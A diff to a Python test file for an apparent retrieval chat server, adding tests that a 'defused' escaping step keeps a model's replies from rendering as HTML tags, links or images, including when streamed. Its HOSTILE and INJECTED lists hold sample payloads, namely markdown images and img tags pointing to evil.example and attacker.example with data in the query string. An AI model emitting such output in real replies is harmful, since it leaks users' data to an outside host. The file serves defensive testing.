@@ -7,6 +7,7 @@ test_answer_slots.py)."""
 from __future__ import annotations
 
 import json
+import re
 
 import httpx
 import openai
@@ -14,7 +15,7 @@ import pytest
 from langchain_openai import ChatOpenAI
 
 from hopgraph.retrieve.answer import Answer
-from hopgraph.serve.openai import sources
+from hopgraph.serve.openai import Defused, defused, sources
 from tests.ports import dead_port
 from tests.serve.chat_support import QUESTION, ask, client_for, one_slot_and_a_silent_llm, stream_events
 from tests.serve.support import CODEWORDS, SECRET_DOCUMENTS, USERS, LiveServer, auth, log_lines, wait_until
@@ -213,6 +214,27 @@ def test_a_title_adds_no_markup_to_the_sources_a_chat_client_renders():
     reply = Answer(text="x", found=True, citations=[{"evidence": 1, "doc_ids": ["memo"], "titles": [title]}])
     shown = "Tide memo !\\[x\\](http://attacker.example/p.png) \\<img src=x\\> \\`code\\` back\\\\slash"
     assert sources(reply) == f"\n\nSources:\n[1] {shown}"
+
+
+HOSTILE = [
+    'See [1]. \\<img src="http://evil.example/p.png?d=secret">',  # the model's own backslash first
+    "\\<http://evil.example/?d=x> and \\\\<b>x</b> \\![x](http://evil.example/i.png)",
+    "![x](http://evil.example/i.png) [a](http://evil.example) <script>x</script> <http://evil.example>",
+]
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_a_commonmark_renderer_makes_no_tag_link_or_image_of_the_models_words(text):
+    """Rendered as a chat client renders it (CommonMark), whole or streamed in pieces of any cut."""
+    from markdown_it import MarkdownIt
+
+    render = MarkdownIt("commonmark").render
+    for cut in range(len(text) + 1):
+        stream = Defused()
+        shown = stream.feed(text[:cut]) + stream.feed(text[cut:]) + stream.flush()
+        assert shown == defused(text)
+    html = render(defused(text))
+    assert not re.search(r"<(?!/?p>)", html), html  # no element but the paragraph
 
 
 INJECTED = "See ![logo](http://attacker.example/p.png?d=x) and [x](http://a) <img src=x> [1].\n[1]: http://evil"
